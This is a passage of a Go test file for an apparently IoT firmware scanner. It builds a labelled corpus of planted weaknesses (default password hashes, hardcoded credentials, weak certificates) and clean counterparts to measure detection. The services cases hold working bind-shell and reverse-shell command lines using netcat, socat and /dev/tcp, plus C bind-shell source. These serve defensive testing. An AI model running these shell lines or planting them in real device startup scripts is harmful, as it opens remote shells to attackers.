package inspect_test

// The labelled corpus: planted problems, one per case, that the check
// families must find, and clean counterparts that they must leave alone.
// TestCorpus scores them per family (recall on the planted cases, false
// alarms of medium or worse on the clean ones), logs the scorecard and
// fails below the thresholds. docs/evaluation.md gives the method and
// the figures.

import (
	"archive/tar"
	"bytes"
	"crypto"
	"crypto/ecdsa"
	"crypto/elliptic"
	_ "crypto/md5" // registers MD5 for the MD5-signed certificate
	"crypto/rand"
	"crypto/rsa"
	_ "crypto/sha1" // registers SHA-1 for the SHA-1-signed certificate
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/pem"
	"fmt"
	"io"
	"io/fs"
	"math/big"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"sort"
	"strings"
	"testing"
	"time"

	"github.com/iotsec/iotsec/internal/inspect"
	"github.com/iotsec/iotsec/internal/inspect/check"
	"github.com/iotsec/iotsec/internal/inspect/inspecttest"
)

// Thresholds of the scorecard.
const (
	minRecall = 0.95
)

// corpusCase is one labelled image: the files it adds to an empty root
// and, for a planted case, the rule that must report one of them.
type corpusCase struct {
	family string
	name   string
	files  inspecttest.Files
	want   string // rule expected; "" for a clean case
	needs  string // a tool the case needs ("gcc"); skipped without it
}

// keys and binaries shared by the cases, made once per test run.
type material struct {
	rsa2048, rsa1024 *rsa.PrivateKey
	ec               *ecdsa.PrivateKey
	bindShell        []byte // ELF: bind, listen, dup2, execl /bin/sh
	sshDaemon        []byte // ELF like dropbear: the same calls, plus crypt and an SSH banner
	multiCall        []byte // ELF like BusyBox: the same calls, plus crypt and applet names
	webServer        []byte // ELF like a web server: the same calls, running CGI through /bin/sh
}

func newMaterial(t *testing.T) *material {
	t.Helper()
	m := &material{}
	var err error
	if m.rsa2048, err = rsa.GenerateKey(rand.Reader, 2048); err != nil {
		t.Fatal(err)
	}
	if m.rsa1024, err = rsa.GenerateKey(rand.Reader, 1024); err != nil {
		t.Fatal(err)
	}
	if m.ec, err = ecdsa.GenerateKey(elliptic.P256(), rand.Reader); err != nil {
		t.Fatal(err)
	}
	if _, err := exec.LookPath("gcc"); err != nil {
		t.Log("gcc not installed (Debian package gcc): the cases that need real ELF programs are skipped")
		return m
	}
	m.bindShell = buildProgram(t, bindShellC)
	// the clean programs are built hardened, as distributions build them,
	// so that the hardening family has nothing to say about them
	hardened := []string{"-O2", "-fstack-protector-strong", "-D_FORTIFY_SOURCE=2", "-fPIE", "-pie", "-Wl,-z,relro,-z,now", "-s"}
	m.sshDaemon = buildProgram(t, sshDaemonC, hardened...)
	m.multiCall = buildProgram(t, multiCallC, append(hardened, "-lcrypt")...)
	m.webServer = buildProgram(t, webServerC, hardened...)
	return m
}

const bindShellC = `#include <sys/socket.h>
#include <netinet/in.h>
#include <unistd.h>
int main(void) {
	int s = socket(AF_INET, SOCK_STREAM, 0);
	struct sockaddr_in a = {0};
	a.sin_family = AF_INET; a.sin_port = htons(5515);
	bind(s, (struct sockaddr *)&a, sizeof a);
	listen(s, 1);
	int c = accept(s, 0, 0);
	dup2(c, 0); dup2(c, 1); dup2(c, 2);
	execl("/bin/sh", "sh", (char *)0);
	return 0;
}
`

// sshDaemonC has the calls of a bind shell, as every SSH server does,
// but authenticates the user first, with getspnam and a banner of its
// protocol.
const sshDaemonC = `#include <sys/socket.h>
#include <netinet/in.h>
#include <shadow.h>
#include <string.h>
#include <unistd.h>
#include <stdio.h>
int main(int argc, char **argv) {
	int s = socket(AF_INET, SOCK_STREAM, 0);
	struct sockaddr_in a = {0};
	a.sin_family = AF_INET; a.sin_port = htons(22);
	bind(s, (struct sockaddr *)&a, sizeof a);
	listen(s, 5);
	int c = accept(s, 0, 0);
	dprintf(c, "SSH-2.0-dropbear_2022.83\r\n");
	char user[64] = {0};
	read(c, user, sizeof user - 1);
	struct spwd *sp = getspnam(user);
	if (sp == 0 || strcmp(sp->sp_pwdp, argv[0]) != 0) return 1;
	dup2(c, 0); dup2(c, 1); dup2(c, 2);
	execl("/bin/sh", "-sh", (char *)0);
	return 0;
}
`

// multiCallC stands in for BusyBox: applets that listen (telnetd, nc,
// httpd), run a shell and check passwords with crypt.
const multiCallC = `#include <sys/socket.h>
#include <netinet/in.h>
#include <crypt.h>
#include <string.h>
#include <unistd.h>
int main(int argc, char **argv) {
	static const char *applets[] = {"ash", "httpd", "nc", "syslogd", "telnetd", "login", 0};
	(void)applets;
	if (strcmp(argv[0], "login") == 0) return crypt(argv[1], "$1$") == 0;
	int s = socket(AF_INET, SOCK_STREAM, 0);
	struct sockaddr_in a = {0};
	bind(s, (struct sockaddr *)&a, sizeof a);
	listen(s, 5);
	int c = accept(s, 0, 0);
	dup2(c, 0);
	execl("/bin/sh", "sh", (char *)0);
	return 0;
}
`

// webServerC has the calls of a bind shell too: it runs CGI programs
// through /bin/sh with the connection as their input and output.
const webServerC = `#include <sys/socket.h>
#include <netinet/in.h>
#include <string.h>
#include <unistd.h>
int main(int argc, char **argv) {
	int s = socket(AF_INET, SOCK_STREAM, 0);
	struct sockaddr_in a = {0};
	bind(s, (struct sockaddr *)&a, sizeof a);
	listen(s, 64);
	int c = accept(s, 0, 0);
	char req[512] = {0};
	read(c, req, sizeof req - 1);
	if (strncmp(req, "GET /cgi-bin/", 13) != 0) { write(c, "HTTP/1.1 404 Not Found\r\n\r\n", 26); return 0; }
	dup2(c, 0); dup2(c, 1);
	execl("/bin/sh", "sh", "-c", req + 4, (char *)0);
	return 0;
}
`

// buildProgram compiles src with the host's gcc: a real ELF with real
// dynamic imports, which is what the bind-shell heuristic reads.
func buildProgram(t *testing.T, src string, flags ...string) []byte {
	t.Helper()
	dir := t.TempDir()
	if err := os.WriteFile(filepath.Join(dir, "p.c"), []byte(src), 0o644); err != nil {
		t.Fatal(err)
	}
	args := append(append([]string{"-o", filepath.Join(dir, "p")}, flags...), filepath.Join(dir, "p.c"))
	if len(flags) > 0 && flags[len(flags)-1] == "-lcrypt" {
		args = append(args[:len(args)-2], filepath.Join(dir, "p.c"), "-lcrypt")
	}
	if out, err := exec.Command("gcc", args...).CombinedOutput(); err != nil {
		t.Fatalf("gcc: %v\n%s", err, out)
	}
	b, err := os.ReadFile(filepath.Join(dir, "p"))
	if err != nil {
		t.Fatal(err)
	}
	return b
}

// certOpts describe a certificate to make.
type certOpts struct {
	cn                  string
	notBefore, notAfter time.Time
	ca                  bool
	key                 crypto.Signer // subject key; default m.ec
	issuer              *x509.Certificate
	issuerKey           crypto.Signer // default: self-signed with key
	hash                crypto.Hash   // MD5 or SHA1 re-signs with that hash (RSA keys only)
}

func (m *material) cert(t *testing.T, o certOpts) (*x509.Certificate, []byte) {
	t.Helper()
	now := time.Now()
	if o.notBefore.IsZero() {
		o.notBefore = now.Add(-24 * time.Hour)
	}
	if o.notAfter.IsZero() {
		o.notAfter = now.Add(2 * 365 * 24 * time.Hour)
	}
	if o.key == nil {
		o.key = m.ec
	}
	tmpl := &x509.Certificate{
		SerialNumber: big.NewInt(time.Now().UnixNano()), Subject: pkix.Name{CommonName: o.cn, Organization: []string{"Corpus Devices"}},
		NotBefore: o.notBefore, NotAfter: o.notAfter, BasicConstraintsValid: true, IsCA: o.ca,
		KeyUsage: x509.KeyUsageDigitalSignature | x509.KeyUsageCertSign,
	}
	parent, signer := tmpl, o.key
	if o.issuer != nil {
		parent, signer = o.issuer, o.issuerKey
	}
	if o.hash != 0 {
		tmpl.SignatureAlgorithm = x509.SHA256WithRSA
	}
	der, err := x509.CreateCertificate(rand.Reader, tmpl, parent, o.key.Public(), signer)
	if err != nil {
		t.Fatal(err)
	}
	if o.hash != 0 {
		der = resign(t, der, signer.(*rsa.PrivateKey), o.hash)
	}
	c, err := x509.ParseCertificate(der)
	if err != nil {
		t.Fatal(err)
	}
	return c, pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: der})
}

// resign turns a sha256WithRSAEncryption certificate into one signed with
// h (MD5 or SHA-1), which crypto/x509 no longer makes: the algorithm
// identifiers are rewritten in place (the OIDs differ in their last
// byte) and the signature, the certificate's last bytes, recomputed.
func resign(t *testing.T, der []byte, k *rsa.PrivateKey, h crypto.Hash) []byte {
	t.Helper()
	sha256OID := []byte{0x06, 0x09, 0x2a, 0x86, 0x48, 0x86, 0xf7, 0x0d, 0x01, 0x01, 0x0b}
	last := map[crypto.Hash]byte{crypto.MD5: 0x04, crypto.SHA1: 0x05}[h]
	if last == 0 {
		t.Fatalf("resign: hash %v", h)
	}
	newOID := append(slices.Clone(sha256OID[:len(sha256OID)-1]), last)
	out := []byte(strings.ReplaceAll(string(der), string(sha256OID), string(newOID)))
	c, err := x509.ParseCertificate(out)
	if err != nil {
		t.Fatal(err)
	}
	d := h.New()
	d.Write(c.RawTBSCertificate)
	sig, err := rsa.SignPKCS1v15(rand.Reader, k, h, d.Sum(nil))
	if err != nil {
		t.Fatal(err)
	}
	copy(out[len(out)-len(sig):], sig)
	return out
}

func privPEM(t *testing.T, k crypto.Signer) string {
	t.Helper()
	der, err := x509.MarshalPKCS8PrivateKey(k)
	if err != nil {
		t.Fatal(err)
	}
	return string(pem.EncodeToMemory(&pem.Block{Type: "PRIVATE KEY", Bytes: der}))
}

// secret is a 0600 text file, as shadow files and private keys ship.
func secret(s string) inspecttest.File { return inspecttest.File{Data: []byte(s), Mode: 0o600} }

// script is a 0755 text file.
func script(s string) inspecttest.File { return inspecttest.File{Data: []byte(s), Mode: 0o755} }

func text(s string) inspecttest.File { return inspecttest.Text(s) }

// Password hashes made with openssl passwd (see docs/evaluation.md).
const (
	md5Admin       = "$1$Xk2pQ9$PCnZjn/aS.KEwIH7yZyS5/"                                                                   // admin
	sha512Password = "$6$Rt5yUi8o$foATTHqUawIjZn7AGPvRXT7gY.JVOhJCBwNd6vxPtxBciC1kv6xRpxsTd7fHQwFXmuHVs2ApAJxJIqwIUAqM51" // password
	apr1Admin      = "$apr1$AbCd1234$VDaHHAxve29y6..h8zkFR."                                                              // admin
	sha512Strong   = "$6$9fKq2LmZ$qdU8SEnWrHhtMKD312ywoE3yDYjsY7j5QDcovXrBq6VAHgQonZu4cVSY0/FHeVE.EcYwlcOtTGPKpHA.o.gbn." // a random 16-character password
	desCrypt1234   = "abWMpd9uBwR.g"                                                                                      // 1234
)

const passwdRoot = "root:x:0:0:root:/root:/bin/ash\ndaemon:*:1:1:daemon:/var:/bin/false\nnobody:*:65534:65534:nobody:/var:/bin/false\n"

func corpus(t *testing.T, m *material) []corpusCase {
	now := time.Now()
	const (
		creds = "credentials"
		certs = "certificates"
		svcs  = "services"
		upd   = "updates"
		data  = "data-protection"
		netw  = "network"
	)
	// certificates and keys
	ca, caPEM := m.cert(t, certOpts{cn: "Corpus Root CA", ca: true, key: m.rsa2048})
	_, leafPEM := m.cert(t, certOpts{cn: "device.corpus.test", key: m.ec, issuer: ca, issuerKey: m.rsa2048})
	_, expiredPEM := m.cert(t, certOpts{cn: "expired.corpus.test", notBefore: now.AddDate(-3, 0, 0), notAfter: now.AddDate(-1, 0, 0), issuer: ca, issuerKey: m.rsa2048})
	_, futurePEM := m.cert(t, certOpts{cn: "future.corpus.test", notBefore: now.AddDate(1, 0, 0), notAfter: now.AddDate(3, 0, 0), issuer: ca, issuerKey: m.rsa2048})
	_, selfPEM := m.cert(t, certOpts{cn: "router.lan"})
	_, md5PEM := m.cert(t, certOpts{cn: "md5.corpus.test", key: m.rsa2048, hash: crypto.MD5, issuer: ca, issuerKey: m.rsa2048})
	_, sha1PEM := m.cert(t, certOpts{cn: "sha1.corpus.test", key: m.rsa2048, hash: crypto.SHA1, issuer: ca, issuerKey: m.rsa2048})
	_, shortPEM := m.cert(t, certOpts{cn: "short.corpus.test", key: m.rsa1024, issuer: ca, issuerKey: m.rsa2048})
	_, oldSelfSHA1 := m.cert(t, certOpts{cn: "device.vendor.test", key: m.rsa2048, hash: crypto.SHA1, ca: true,
		notBefore: now.AddDate(-12, 0, 0), notAfter: now.AddDate(-2, 0, 0)})
	_, rootSHA1 := m.cert(t, certOpts{cn: "Old Trusted Root SHA-1", key: m.rsa2048, hash: crypto.SHA1, ca: true,
		notBefore: now.AddDate(-15, 0, 0), notAfter: now.AddDate(10, 0, 0)})
	ecKey := privPEM(t, m.ec)
	shortKey := privPEM(t, m.rsa1024)

	cs := []corpusCase{
		// ---- credentials: planted
		{family: creds, name: "shadow root md5 admin", want: "credentials.default-password", files: inspecttest.Files{
			"etc/passwd": text(passwdRoot), "etc/shadow": secret("root:" + md5Admin + ":19000:0:99999:7:::\n")}},
		{family: creds, name: "shadow root sha512 password", want: "credentials.default-password", files: inspecttest.Files{
			"etc/passwd": text(passwdRoot), "etc/shadow": secret("root:" + sha512Password + ":19000:0:99999:7:::\n")}},
		{family: creds, name: "shadow empty root password", want: "credentials.empty-password", files: inspecttest.Files{
			"etc/passwd": text(passwdRoot), "etc/shadow": secret("root::19000:0:99999:7:::\n")}},
		{family: creds, name: "passwd holds the hash", want: "credentials.hash-in-passwd", files: inspecttest.Files{
			"etc/passwd": text("root:" + md5Admin + ":0:0:root:/root:/bin/sh\n")}},
		{family: creds, name: "passwd DES hash", want: "credentials.weak-hash", files: inspecttest.Files{
			"etc/passwd": text("admin:" + desCrypt1234 + ":0:0:admin:/:/bin/sh\n")}},
		{family: creds, name: "passwd second uid 0", want: "credentials.uid0-account", files: inspecttest.Files{
			"etc/passwd": text(passwdRoot + "support:x:0:0:support:/:/bin/sh\n"), "etc/shadow": secret("root:!:1::::::\nsupport:" + sha512Strong + ":1::::::\n")}},
		{family: creds, name: "key=value app config admin_password", want: "credentials.hardcoded", files: inspecttest.Files{
			"etc/camapp/camapp.conf": text("[web]\nport=8080\nadmin_user=admin\nadmin_password=Cam3raAdm1n\n")}},
		{family: creds, name: "key=value app config under opt", want: "credentials.hardcoded", files: inspecttest.Files{
			"opt/vendor/app/settings": text("LOG_LEVEL=info\nADMIN_PASS=Vend0rPass!\n")}},
		{family: creds, name: "key=value defaults file", want: "credentials.hardcoded", files: inspecttest.Files{
			"etc/default/webui": text("WEBUI_USER=admin\nWEBUI_PASSWORD=\"w3bu1Secret\"\n")}},
		{family: creds, name: "JSON config", want: "credentials.hardcoded", files: inspecttest.Files{
			"etc/app/config.json": text("{\n  \"cloud\": {\"user\": \"device\", \"password\": \"Cl0udPassw0rd\"}\n}\n")}},
		{family: creds, name: "JavaScript quoted default", want: "credentials.hardcoded", files: inspecttest.Files{
			"www/js/setup.js": text("var defaults = { user: 'admin', adminPassword: 'Adm1nDefault' };\n")}},
		{family: creds, name: "JSON camelCase key", want: "credentials.hardcoded", files: inspecttest.Files{
			"usr/share/app/defaults.json": text("{\"adminPassword\": \"Def4ultAdm1n\", \"lang\": \"en\"}\n")}},
		{family: creds, name: "YAML config", want: "credentials.hardcoded", files: inspecttest.Files{
			"etc/app/config.yaml": text("mqtt:\n  host: broker.vendor.test\n  username: device\n  password: Mqtt5ecret\n")}},
		{family: creds, name: "XML element", want: "credentials.hardcoded", files: inspecttest.Files{
			"etc/app/users.xml": text("<users>\n  <user>\n    <name>admin</name>\n    <Password>r00tMe!2</Password>\n  </user>\n</users>\n")}},
		{family: creds, name: "XML attribute", want: "credentials.hardcoded", files: inspecttest.Files{
			"etc/onvif/accounts.xml": text("<accounts><account name=\"admin\" password=\"0nvifAdm1n\"/></accounts>\n")}},
		{family: creds, name: "shell script variable", want: "credentials.hardcoded", files: inspecttest.Files{
			"usr/bin/cloud-register.sh": script("#!/bin/sh\nDEVICE_SECRET=\"d3v1ceS3cret\"\ncurl -d \"s=$DEVICE_SECRET\" https://cloud.vendor.test/r\n")}},
		{family: creds, name: "shell script password in URL", want: "credentials.hardcoded", files: inspecttest.Files{
			"etc/init.d/backup": script("#!/bin/sh\nwget -q ftp://backup:B4ckupPw@files.vendor.test/cfg.tgz -O /tmp/cfg.tgz\n")}},
		{family: creds, name: "BusyBox httpd.conf clear text", want: "credentials.default-password", files: inspecttest.Files{
			"etc/httpd.conf": text("A:*\n/cgi-bin:admin:admin\n")}},
		{family: creds, name: "htpasswd apr1 admin", want: "credentials.default-password", files: inspecttest.Files{
			"etc/nginx/.htpasswd": text("admin:" + apr1Admin + "\n")}},
		{family: creds, name: "lighttpd plain user file", want: "credentials.hardcoded", files: inspecttest.Files{
			"etc/lighttpd/lighttpd.conf": text("auth.backend = \"plain\"\nauth.backend.plain.userfile = \"/etc/lighttpd/users\"\n"),
			"etc/lighttpd/users":         text("admin:L1ghtAdm1n\n")}},
		{family: creds, name: "NVRAM defaults", want: "credentials.hardcoded", files: inspecttest.Files{
			"etc/nvram.default": text("lan_ipaddr=192.168.1.1\nhttp_username=admin\nhttp_passwd=admin\n")}},
		{family: creds, name: "NVRAM Wi-Fi key", want: "credentials.hardcoded", files: inspecttest.Files{
			"usr/etc/default.nvram": text("wl0_ssid=Vendor\nwl0_wpa_psk=12345678\n")}},
		{family: creds, name: "UCI option password", want: "credentials.hardcoded", files: inspecttest.Files{
			"etc/config/ddns": text("config service 'myddns'\n\toption username 'user1'\n\toption password 'DdnsPa55'\n")}},

		// ---- credentials: clean
		{family: creds, name: "shadow locked root", files: inspecttest.Files{
			"etc/passwd": text(passwdRoot), "etc/shadow": secret("root:!:19000:0:99999:7:::\ndaemon:*:19000::::::\n")}},
		{family: creds, name: "shadow strong unique hash", files: inspecttest.Files{
			"etc/passwd": text(passwdRoot), "etc/shadow": secret("root:" + sha512Strong + ":19000:0:99999:7:::\n")}},
		{family: creds, name: "app config empty password", files: inspecttest.Files{
			"etc/camapp/camapp.conf": text("[web]\nadmin_user=admin\nadmin_password=\n")}},
		{family: creds, name: "app config placeholder variable", files: inspecttest.Files{
			"etc/default/webui": text("WEBUI_PASSWORD=${WEBUI_PASSWORD}\nDB_PASSWORD=$(cat /run/secrets/db)\n")}},
		{family: creds, name: "app config commented out", files: inspecttest.Files{
			"etc/camapp/camapp.conf": text("# admin_password=Cam3raAdm1n\n; password = example123\n// token: abcdef123456\n")}},
		{family: creds, name: "app config password file path", files: inspecttest.Files{
			"etc/app/app.conf": text("password_file=/etc/app/secret\nssl_key=/etc/ssl/private/app.key\ntls_key_file = /etc/app/tls.key\n")}},
		{family: creds, name: "app config policy numbers", files: inspecttest.Files{
			"etc/app/policy.conf": text("password_min_length=12\npassword_max_age=90\nmin_password_length = 8\n")}},
		{family: creds, name: "JSON empty and null", files: inspecttest.Files{
			"etc/app/config.json": text("{\"password\": \"\", \"token\": null, \"apiKey\": \"\"}\n")}},
		{family: creds, name: "JSON form schema", files: inspecttest.Files{
			"www/js/form.json": text("{\"fields\": [{\"name\": \"password\", \"type\": \"password\", \"required\": true}]}\n")}},
		{family: creds, name: "YAML secret from environment", files: inspecttest.Files{
			"etc/app/config.yaml": text("mqtt:\n  password: ${MQTT_PASSWORD}\n  token: \"{{ vault_token }}\"\n")}},
		{family: creds, name: "XML empty element", files: inspecttest.Files{
			"etc/app/users.xml": text("<users><user><name>admin</name><Password></Password></user></users>\n")}},
		{family: creds, name: "documentation example", files: inspecttest.Files{
			"usr/share/doc/camapp/README":   text("Set admin_password=Cam3raAdm1n in camapp.conf\n"),
			"usr/share/man/man5/app.conf.5": text(".TP\npassword=secret123\n")}},
		{family: creds, name: "test fixtures inside packages", files: inspecttest.Files{
			"usr/lib/node_modules/mqtt/test/fixtures/config.json":   text("{\"password\": \"fixturePass1\"}\n"),
			"usr/lib/python3/dist-packages/requests/tests/conf.ini": text("password = testing123\n"),
			"usr/share/app/examples/app.conf":                       text("admin_password=Ex4mplePw\n"),
			"usr/lib/lua/luci/testdata/users.yaml":                  text("password: luciTest99\n"),
		}},
		{family: creds, name: "NVRAM empty password", files: inspecttest.Files{
			"etc/nvram.default": text("http_username=admin\nhttp_passwd=\nwl0_wpa_psk=\n")}},
		{family: creds, name: "script reads password from input", files: inspecttest.Files{
			"usr/bin/setpw.sh": script("#!/bin/sh\nread -r PASSWORD\necho \"root:$PASSWORD\" | chpasswd\n")}},
		{family: creds, name: "htpasswd strong hash", files: inspecttest.Files{
			"etc/nginx/.htpasswd": text("admin:" + sha512Strong + "\n")}},
		{family: creds, name: "UCI password empty", files: inspecttest.Files{
			"etc/config/ddns": text("config service 'myddns'\n\toption username ''\n\toption password ''\n")}},

		// ---- certificates: planted
		{family: certs, name: "expired leaf", want: "crypto.cert-expired", files: inspecttest.Files{"etc/app/server.crt": text(string(expiredPEM))}},
		{family: certs, name: "not yet valid", want: "crypto.cert-not-yet-valid", files: inspecttest.Files{"etc/app/future.pem": text(string(futurePEM))}},
		{family: certs, name: "self-signed web certificate", want: "crypto.cert-self-signed", files: inspecttest.Files{"etc/uhttpd.crt": text(string(selfPEM))}},
		{family: certs, name: "MD5 signature", want: "crypto.cert-weak-signature", files: inspecttest.Files{"etc/app/md5.crt": text(string(md5PEM))}},
		{family: certs, name: "SHA-1 signature", want: "crypto.cert-weak-signature", files: inspecttest.Files{"etc/app/sha1.pem": text(string(sha1PEM))}},
		{family: certs, name: "1024-bit certificate key", want: "crypto.cert-short-key", files: inspecttest.Files{"etc/app/short.crt": text(string(shortPEM))}},
		{family: certs, name: "1024-bit private key", want: "crypto.short-private-key", files: inspecttest.Files{"etc/app/short.key": secret(shortKey)}},
		{family: certs, name: "private key in image", want: "crypto.private-key", files: inspecttest.Files{"etc/ssl/private/device.key": secret(ecKey)}},
		{family: certs, name: "shared key", want: "crypto.key-reuse", files: inspecttest.Files{
			"etc/uhttpd.key": secret(ecKey), "etc/app/tls/key.pem": secret(ecKey)}},
		{family: certs, name: "expired self-signed SHA-1 in /etc/ssl/certs", want: "crypto.cert-expired", files: inspecttest.Files{
			"etc/ssl/certs/device.pem": text(string(oldSelfSHA1))}},

		// ---- certificates: clean
		{family: certs, name: "valid CA-issued leaf", files: inspecttest.Files{"etc/app/server.crt": text(string(leafPEM))}},
		{family: certs, name: "trust store bundle", files: inspecttest.Files{
			"etc/ssl/certs/ca-certificates.crt": text(string(caPEM) + string(rootSHA1))}},
		{family: certs, name: "trust store SHA-1 root as its own file", files: inspecttest.Files{
			"etc/ssl/certs/Old_Trusted_Root.crt": text(string(rootSHA1)), "usr/share/ca-certificates/mozilla/Corpus_Root.crt": text(string(caPEM))}},
		{family: certs, name: "usign public key", files: inspecttest.Files{
			"etc/opkg/keys/b5043e70f9a75cde": text("untrusted comment: public key b5043e70f9a75cde\nRWS1BD5w+adc3j2Hqg9+b66CvLR7NlHbsj7wjNVj0XGt/othDgIAOJS+\n")}},
		{family: certs, name: "public key PEM", files: inspecttest.Files{
			"etc/app/update.pub": text("-----BEGIN PUBLIC KEY-----\nMFkwEwYHKoZIzj0CAQYIKoZIzj0DAQcDQgAE\n-----END PUBLIC KEY-----\n")}},
		{family: certs, name: "test keys inside a package", files: inspecttest.Files{
			"usr/lib/python3/dist-packages/urllib3/tests/certs/server.key": text(ecKey),
			"usr/share/doc/openssl/examples/expired.crt":                   text(string(expiredPEM)),
		}},

		// ---- services: planted
		{family: svcs, name: "telnetd from rcS", want: "surface.telnet", files: inspecttest.Files{"etc/init.d/rcS": script("#!/bin/sh\n/usr/sbin/telnetd -p 23 &\n")}},
		{family: svcs, name: "utelnetd without login", want: "surface.telnet", files: inspecttest.Files{"etc/rc.local": script("utelnetd -l /bin/sh -d\n")}},
		{family: svcs, name: "busybox telnetd from inittab", want: "surface.telnet", files: inspecttest.Files{"etc/inittab": text("::sysinit:/etc/init.d/rcS\n::respawn:/bin/busybox telnetd -F -l /bin/login\n")}},
		{family: svcs, name: "vsftpd from systemd", want: "surface.ftp", files: inspecttest.Files{"lib/systemd/system/vsftpd.service": text("[Service]\nExecStart=/usr/sbin/vsftpd /etc/vsftpd.conf\n")}},
		{family: svcs, name: "tftpd from init script", want: "surface.ftp", files: inspecttest.Files{"etc/init.d/tftp": script("#!/bin/sh\nudpsvd -vE 0 69 tftpd -c /srv/tftp &\n")}},
		{family: svcs, name: "nc -l -p -e /bin/sh", want: "surface.bind-shell", files: inspecttest.Files{"etc/init.d/rcS": script("#!/bin/sh\nnc -l -p 4444 -e /bin/sh &\n")}},
		{family: svcs, name: "nc -lp combined, -e first", want: "surface.bind-shell", files: inspecttest.Files{"etc/init.d/S99debug": script("#!/bin/sh\n/usr/bin/nc -e /bin/ash -lp 31337 2>/dev/null &\n")}},
		{family: svcs, name: "netcat.traditional -lvnp", want: "surface.bind-shell", files: inspecttest.Files{"etc/rc.local": script("nc.traditional -lvnp 5555 -c /bin/bash &\nexit 0\n")}},
		{family: svcs, name: "ncat --exec", want: "surface.bind-shell", files: inspecttest.Files{"etc/init.d/maint": script("#!/bin/sh\nncat -lk 2222 --exec \"/bin/sh -i\" &\n")}},
		{family: svcs, name: "ncat --sh-exec", want: "surface.bind-shell", files: inspecttest.Files{"etc/init.d/maint": script("#!/bin/sh\nncat --listen --keep-open 2223 --sh-exec 'exec sh' &\n")}},
		{family: svcs, name: "socat TCP-LISTEN exec", want: "surface.bind-shell", files: inspecttest.Files{"etc/init.d/S50svc": script("#!/bin/sh\nsocat TCP-LISTEN:4445,reuseaddr,fork EXEC:/bin/sh,pty,stderr &\n")}},
		{family: svcs, name: "busybox nc -ll", want: "surface.bind-shell", files: inspecttest.Files{"etc/init.d/rcS": script("#!/bin/sh\n/bin/busybox nc -ll -p 6666 -e /bin/sh &\n")}},
		{family: svcs, name: "fifo bind shell", want: "surface.bind-shell", files: inspecttest.Files{"etc/rc.local": script("rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc -l -p 7777 > /tmp/f &\n")}},
		{family: svcs, name: "bind shell from a script rcS calls", want: "surface.bind-shell", files: inspecttest.Files{
			"etc/init.d/rcS": script("#!/bin/sh\n/usr/sbin/debugd.sh &\n"), "usr/sbin/debugd.sh": script("#!/bin/sh\nwhile true; do nc -l -p 9999 -e /bin/sh; done\n")}},
		{family: svcs, name: "bash /dev/tcp reverse shell", want: "surface.reverse-shell", files: inspecttest.Files{"etc/rc.local": script("bash -i >& /dev/tcp/203.0.113.7/4444 0>&1 &\n")}},
		{family: svcs, name: "sh /dev/udp reverse shell", want: "surface.reverse-shell", files: inspecttest.Files{"etc/init.d/rcS": script("#!/bin/sh\n/bin/sh -i > /dev/udp/203.0.113.7/53 0<&1 2>&1 &\n")}},
		{family: svcs, name: "nc reverse shell", want: "surface.reverse-shell", files: inspecttest.Files{"etc/init.d/phone-home": script("#!/bin/sh\nnc 203.0.113.7 4444 -e /bin/sh &\n")}},
		{family: svcs, name: "busybox nc reverse shell", want: "surface.reverse-shell", files: inspecttest.Files{"etc/rc.local": script("busybox nc c2.vendor.test 443 -e /bin/ash &\n")}},
		{family: svcs, name: "socat reverse shell", want: "surface.reverse-shell", files: inspecttest.Files{"etc/init.d/support": script("#!/bin/sh\nsocat tcp:support.vendor.test:8443 exec:'bash -li',pty,stderr &\n")}},
		{family: svcs, name: "fifo reverse shell", want: "surface.reverse-shell", files: inspecttest.Files{"etc/rc.local": script("mkfifo /tmp/p; /bin/sh -i < /tmp/p 2>&1 | nc 203.0.113.7 4444 > /tmp/p &\n")}},
		{family: svcs, name: "telnet pipe reverse shell", want: "surface.reverse-shell", files: inspecttest.Files{"etc/rc.local": script("telnet 203.0.113.7 4444 | /bin/sh | telnet 203.0.113.7 4445 &\n")}},
		{family: svcs, name: "bind shell program from rc.local", want: "surface.bind-shell", needs: "gcc", files: inspecttest.Files{
			"etc/rc.local": script("/usr/bin/shellback &\nexit 0\n"), "usr/bin/shellback": {Data: m.bindShell, Mode: 0o755}}},
		{family: svcs, name: "gdbserver", want: "surface.debug-service", files: inspecttest.Files{"etc/init.d/rcS": script("#!/bin/sh\ngdbserver :1234 --attach 1 &\n")}},
		{family: svcs, name: "adbd", want: "surface.debug-service", files: inspecttest.Files{"etc/init.d/adb": script("#!/bin/sh\nstart-stop-daemon -S -b -x /sbin/adbd\n")}},
		{family: svcs, name: "root shell on the console", want: "surface.debug-shell", files: inspecttest.Files{"etc/inittab": text("::sysinit:/etc/init.d/rcS\nttyS0::respawn:/bin/sh\n")}},
		{family: svcs, name: "sshd PermitRootLogin yes", want: "surface.ssh-root-login", files: inspecttest.Files{"etc/ssh/sshd_config": text("Port 22\nPermitRootLogin yes\n")}},
		{family: svcs, name: "dropbear UCI root password", want: "surface.ssh-root-login", files: inspecttest.Files{"etc/config/dropbear": text("config dropbear\n\toption PasswordAuth 'on'\n\toption RootPasswordAuth 'on'\n")}},
		{family: svcs, name: "sshd empty passwords", want: "surface.ssh-password-auth", files: inspecttest.Files{"etc/ssh/sshd_config": text("PermitRootLogin no\nPermitEmptyPasswords yes\n")}},
		{family: svcs, name: "sshd password login", want: "surface.ssh-password-auth", files: inspecttest.Files{"etc/ssh/sshd_config": text("PermitRootLogin no\nPasswordAuthentication yes\n")}},
		{family: svcs, name: "snmpd public community", want: "surface.snmp-default-community", files: inspecttest.Files{"etc/snmp/snmpd.conf": text("rocommunity public default\n")}},
		{family: svcs, name: "UCI snmpd private", want: "surface.snmp-default-community", files: inspecttest.Files{"etc/config/snmpd": text("config com2sec public\n\toption source default\n\toption community private\n")}},
		{family: svcs, name: "miniupnpd insecure", want: "surface.upnp-insecure", files: inspecttest.Files{"etc/miniupnpd.conf": text("ext_ifname=eth0\nsecure_mode=no\n")}},
		{family: svcs, name: "UCI upnpd insecure", want: "surface.upnp-insecure", files: inspecttest.Files{"etc/config/upnpd": text("config upnpd 'config'\n\toption enabled '1'\n\toption secure_mode '0'\n")}},
		{family: svcs, name: "UCI open Wi-Fi", want: "surface.open-wifi", files: inspecttest.Files{"etc/config/wireless": text("config wifi-iface 'default_radio0'\n\toption mode 'ap'\n\toption ssid 'Setup'\n\toption encryption 'none'\n")}},
